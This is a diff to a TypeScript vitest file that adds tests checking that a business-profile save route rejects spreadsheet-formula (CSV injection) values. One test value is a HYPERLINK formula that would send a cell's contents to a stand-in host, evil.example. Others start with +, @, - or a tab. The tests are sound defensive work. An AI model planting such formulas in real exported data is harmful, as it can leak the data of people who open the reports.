@@ -2,6 +2,7 @@ import { afterAll, beforeEach, describe, expect, it } from 'vitest';
 import { keys } from '../../functions/db/keys.js';
 import { permissionsFor } from '../../infra/lib/permissions.js';
 import { BUSINESS_STATUS, MESSAGES } from '../../shared/constants.js';
+import { formulaMessage } from '../../shared/partner-rules.js';
 import { routes, type RoutePath } from '../../shared/routes.js';
 import { sampleDraft } from '../support/business-draft.js';
 import { callRoute, FIXTURE, installIamHarness } from '../support/iam-harness.js';
@@ -95,6 +96,12 @@ describe('tbp/savebusinesstemp', () => {
     ['no offers', { ...sampleDraft('bp-bad'), offers: [] }, MESSAGES.submitNeedsOffer],
     ['no enabled location', { ...sampleDraft('bp-bad'), locations: [{ ...sampleDraft('bp-bad').locations[0]!, status: 0 as const }] }, MESSAGES.submitNeedsLocation],
     ['an offer without a channel', { ...sampleDraft('bp-bad'), offers: [{ ...sampleDraft('bp-bad').offers[0]!, isPrinted: 0 as const, isMobile: 0 as const }] }, MESSAGES.offerChannel],
+    // Free text that would run as a formula in the co-op's CSV reports.
+    ['a business name that is a formula', sampleDraft('bp-bad', { businessName: '=HYPERLINK("https://evil.example/?"&A3,"Open")' }), formulaMessage('businessName')],
+    ['a website starting with +', sampleDraft('bp-bad', { website: '+evil.example' }), formulaMessage('website')],
+    ['a location name starting with @', { ...sampleDraft('bp-bad'), locations: [{ ...sampleDraft('bp-bad').locations[0]!, locationName: ' @SUM(A1)' }] }, formulaMessage('locationName')],
+    ['an offer description starting with -', { ...sampleDraft('bp-bad'), offers: [{ ...sampleDraft('bp-bad').offers[0]!, description: '-20% off' }] }, formulaMessage('description')],
+    ['special instructions starting with a tab', { ...sampleDraft('bp-bad'), offers: [{ ...sampleDraft('bp-bad').offers[0]!, stubCopy: '\t=1+1' }] }, formulaMessage('stubCopy')],
   ])('refuses to send %s, writing nothing', async (_what, draft, message) => {
     const res = await save(draft, { submit: true });
     expect(res).toMatchObject({ status: 400, body: { success: false, message } });
